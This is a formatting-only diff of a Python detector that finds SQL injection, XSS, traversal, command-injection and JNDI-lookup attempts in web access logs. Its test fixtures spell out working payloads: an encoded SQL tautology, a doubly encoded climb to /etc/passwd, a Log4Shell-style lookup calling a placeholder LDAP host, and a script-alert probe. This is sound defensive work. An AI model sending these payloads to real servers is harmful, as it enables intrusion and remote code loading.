@@ -1,8 +1,8 @@
 """Web attacks in access logs: one finding per source, kind of attack and hour, with what the server answered.
 
-Path, query values, user agent and referrer of each request are judged by :mod:`web_patterns`; only distinct texts that pass
-a cheap filter are looked at closely. What one would get wrong: an answer 200 alone is no success (most pages ignore the
-parameter); an error 500, or a page of unusual size, says that the payload reached something.
+Path, query values, user agent and referrer of each request are judged by :mod:`web_patterns`; only distinct texts that
+pass a cheap filter are looked at closely. What one would get wrong: an answer 200 alone is no success (most pages
+ignore the parameter); an error 500, or a page of unusual size, says that the payload reached something.
 """
 
 from collections.abc import Iterator, Mapping
@@ -30,17 +30,32 @@ PARAMETERS: Mapping[str, Parameter] = {
     "max_keys": Parameter(50_000, "keys", "bounds memory; about 2 KB per (source, kind) of one hour"),
 }
 PATH, QUERY, AGENT, REFERRER = (
-    "http_request_url_path", "http_request_url_query_string", "http_request_user_agent", "http_request_referrer",
-)  # fmt: skip
+    "http_request_url_path",
+    "http_request_url_query_string",
+    "http_request_user_agent",
+    "http_request_referrer",
+)
 COLUMNS = (
-    PATH, QUERY, AGENT, REFERRER, "src_endpoint_ip", "http_response_code", "http_response_body_length",
-    "http_request_http_method", "http_request_url_hostname", "class_uid",
-)  # fmt: skip
+    PATH,
+    QUERY,
+    AGENT,
+    REFERRER,
+    "src_endpoint_ip",
+    "http_response_code",
+    "http_response_body_length",
+    "http_request_http_method",
+    "http_request_url_hostname",
+    "class_uid",
+)
 _HEADER_SUSPECT = r"(?i)\$\{|%24%7b|\(\)\s*\{"
 _TECHNIQUES = {
-    "sqli": ("T1190",), "xss": ("T1189",), "traversal": ("T1190", "T1083"), "cmdi": ("T1190", "T1059"),
-    "inclusion": ("T1190",), "lookup": ("T1190", "T1059"),
-}  # fmt: skip
+    "sqli": ("T1190",),
+    "xss": ("T1189",),
+    "traversal": ("T1190", "T1083"),
+    "cmdi": ("T1190", "T1059"),
+    "inclusion": ("T1190",),
+    "lookup": ("T1190", "T1059"),
+}
 
 
 @lru_cache(maxsize=20_000)
@@ -66,8 +81,12 @@ def judge_header(text: str) -> tuple[Verdict, ...]:
     return tuple(v for v in judge(text) if v.category == "lookup" or (v.category == "cmdi" and "() {" in text))
 
 
-_JUDGES = ((PATH, SUSPECT, judge_path), (QUERY, SUSPECT, judge_query), (AGENT, _HEADER_SUSPECT, judge_header),
-           (REFERRER, _HEADER_SUSPECT, judge_header))  # fmt: skip
+_JUDGES = (
+    (PATH, SUSPECT, judge_path),
+    (QUERY, SUSPECT, judge_query),
+    (AGENT, _HEADER_SUSPECT, judge_header),
+    (REFERRER, _HEADER_SUSPECT, judge_header),
+)
 
 
 @dataclass(slots=True)
@@ -93,13 +112,20 @@ class WebAttacks(WindowTally[Attack]):
         self.max_keys = int(parameters["max_keys"].value)
         self.large_body = int(parameters["large_body"].value)
         self.spec = DetectorSpec(
-            name="web_attacks", version="1", title="Attack payloads in web requests", attack=("T1190",), columns=COLUMNS,
+            name="web_attacks",
+            version="1",
+            title="Attack payloads in web requests",
+            attack=("T1190",),
+            columns=COLUMNS,
             where=f"src_endpoint_ip != '' AND ({PATH} != '' OR {QUERY} != '')",
-            lateness_seconds=300, parameters=parameters,
-            how_to_check="Is the source an agreed scanner or penetration test? Look at the requests answered 200 or 500: does "
-            "the size differ from the same page without the payload? Then look at the server's error log and at what its web "
+            lateness_seconds=300,
+            parameters=parameters,
+            how_to_check="Is the source an agreed scanner or penetration test? Look at the requests answered "
+            "200 or 500: does "
+            "the size differ from the same page without the payload? Then look at the server's error log and "
+            "at what its web "
             "process started in those minutes.",
-        )  # fmt: skip
+        )
 
     def wanted(self, events: pa.Table) -> Mask:
         found = np.zeros(events.num_rows, dtype=np.bool_)
@@ -151,8 +177,17 @@ class WebAttacks(WindowTally[Attack]):
         return Attack()
 
     def to_plain(self, record: Attack) -> Plain:
-        return [record.count, record.weight, record.first_us, record.last_us, dict(record.words), dict(record.hosts),
-                dict(record.answers), record.telling, notes_to_plain(record.notes)]  # fmt: skip
+        return [
+            record.count,
+            record.weight,
+            record.first_us,
+            record.last_us,
+            dict(record.words),
+            dict(record.hosts),
+            dict(record.answers),
+            record.telling,
+            notes_to_plain(record.notes),
+        ]
 
     def from_plain(self, plain: Plain) -> Attack:
         count, weight, first, last, words, hosts, answers, telling, notes = cast("list[int]", plain)
@@ -188,35 +223,78 @@ def _conclusion(source: str, category: str, record: Attack, window_us: int) -> C
         record.first_us, record.last_us, equal("src_endpoint_ip", source), f"({PATH} != '' OR {QUERY} != '')"
     )
     return Conclusion(
-        entity=ip_entity(source), anchor=f"{window_us}|{category}", severity=severity,
-        confidence=min(0.95, 0.5 + 0.05 * record.weight), first_us=record.first_us, last_us=record.last_us,
-        title=f"{title} attempts from {source}", attack=_TECHNIQUES[category],
+        entity=ip_entity(source),
+        anchor=f"{window_us}|{category}",
+        severity=severity,
+        confidence=min(0.95, 0.5 + 0.05 * record.weight),
+        first_us=record.first_us,
+        last_us=record.last_us,
+        title=f"{title} attempts from {source}",
+        attack=_TECHNIQUES[category],
         explanation=f"{source} sent {record.count} requests that hold {title}: {'; '.join(words[:4])}. "
         f"The server answered {answers}.{telling}",
         reasons=[(f"{text} in {record.words[text]} requests", float(record.words[text])) for text in words[:6]],
-        notes=record.notes, event_count=record.count, where=where,
+        notes=record.notes,
+        event_count=record.count,
+        where=where,
         entities=[f"host:{host}".lower() for host in sorted(record.hosts)],
-        features={"requests": record.count, "weight": record.weight, "telling_answers": record.telling, "category": category},
-    )  # fmt: skip
+        features={
+            "requests": record.count,
+            "weight": record.weight,
+            "telling_answers": record.telling,
+            "category": category,
+        },
+    )
 
 
 def _get(
     path: str, query: str = "", code: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64)", body: int = 5000
 ) -> dict[str, object]:
-    return {"class_uid": 4002, "src_endpoint_ip": "203.0.113.9", PATH: path, QUERY: query, AGENT: agent,
-            "http_response_code": code, "http_response_body_length": body, "http_request_http_method": "GET"}  # fmt: skip
+    return {
+        "class_uid": 4002,
+        "src_endpoint_ip": "203.0.113.9",
+        PATH: path,
+        QUERY: query,
+        AGENT: agent,
+        "http_response_code": code,
+        "http_response_body_length": body,
+        "http_request_http_method": "GET",
+    }
 
 
 EXAMPLES: tuple[Example, ...] = (
-    Example("a condition that is always true, encoded", True,
-            spaced("2024-03-04T10:00:00", 5, [_get("/item", "id=7%27%20OR%20%271%27%3D%271")])),
-    Example("a doubly encoded climb to the password file", True,
-            spaced("2024-03-04T10:00:00", 5, [_get("/download", "f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404)])),
-    Example("a nested lookup in the user agent", True,
-            spaced("2024-03-04T10:00:00", 5, [_get("/", agent="${${lower:j}ndi:ldap://192.0.2.1/a}")])),
-    Example("a script in a search box", True,
-            spaced("2024-03-04T10:00:00", 5, [_get("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E")])),
-    Example("names with apostrophes, and prose that sounds like SQL", False, spaced("2024-03-04T10:00:00", 5, [
-        _get("/search", "q=O%27Brien+or+O%27Neill"), _get("/search", "q=select+a+room+from+the+list"),
-        _get("/docs/../img/logo.png"), _get("/search", "q=union+station+and+order+by+phone")])),
-)  # fmt: skip
+    Example(
+        "a condition that is always true, encoded",
+        True,
+        spaced("2024-03-04T10:00:00", 5, [_get("/item", "id=7%27%20OR%20%271%27%3D%271")]),
+    ),
+    Example(
+        "a doubly encoded climb to the password file",
+        True,
+        spaced("2024-03-04T10:00:00", 5, [_get("/download", "f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404)]),
+    ),
+    Example(
+        "a nested lookup in the user agent",
+        True,
+        spaced("2024-03-04T10:00:00", 5, [_get("/", agent="${${lower:j}ndi:ldap://192.0.2.1/a}")]),
+    ),
+    Example(
+        "a script in a search box",
+        True,
+        spaced("2024-03-04T10:00:00", 5, [_get("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E")]),
+    ),
+    Example(
+        "names with apostrophes, and prose that sounds like SQL",
+        False,
+        spaced(
+            "2024-03-04T10:00:00",
+            5,
+            [
+                _get("/search", "q=O%27Brien+or+O%27Neill"),
+                _get("/search", "q=select+a+room+from+the+list"),
+                _get("/docs/../img/logo.png"),
+                _get("/search", "q=union+station+and+order+by+phone"),
+            ],
+        ),
+    ),
+)
